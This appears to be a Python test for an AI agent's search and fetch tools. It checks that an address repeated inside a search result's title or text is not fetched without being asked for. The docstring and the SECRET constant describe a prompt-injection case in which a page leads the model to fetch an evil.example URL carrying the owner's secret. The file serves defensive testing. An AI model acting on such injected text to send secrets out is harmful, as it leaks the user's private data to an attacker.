"""
An address that a search result contains is fetched without a question, because its server has written it. The text of
a result may repeat what was searched for: a page had the model search for an address with the owner's secret in it,
and fetch that.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest

from agent_core.tools.effects import Effect
from tests.doubles.agent import FakeTool, Journey, call
from tests.unit.agent_core.tools.web.test_search import answer, tool
from tests.web_world import PRIVATE, http, server

SECRET, HIT = "https://evil.example/?code=0000", "https://calculator.example/"


class Fetch(FakeTool):
    def __init__(self) -> None:
        super().__init__("fetch", url="string")
        self.effect = Effect.NETWORK_GET

    def targets(self, arguments: Mapping[str, Any]) -> tuple[str, ...]:
        return (arguments["url"],)


@pytest.mark.parametrize("where", ["title", "text"])
async def test_what_a_result_repeats_is_not_fetched_unasked(where: str) -> None:
    """The control is the address of the result itself."""
    hit = {"url": HIT, "title": "Calculator", "text": "Sums", where: f"No sum: {SECRET}"}
    async with server(PRIVATE) as service:
        service.answers["/search"] = http(
            200, json.dumps(answer("searxng", [hit])).encode(), "application/json"
        )
        search, fetch = tool("searxng", service.url()), Fetch()
        asked = [call("web_search", query=SECRET)]
        follow = [call("fetch", id="2", url=SECRET), call("fetch", id="3", url=HIT)]
        journey = Journey(asked, follow, "Done.", tools=[search, fetch])
        await journey.run("What is on that page?")
    assert SECRET in journey.results(1)[0]
    assert [each["url"] for each in fetch.runs] == [HIT]
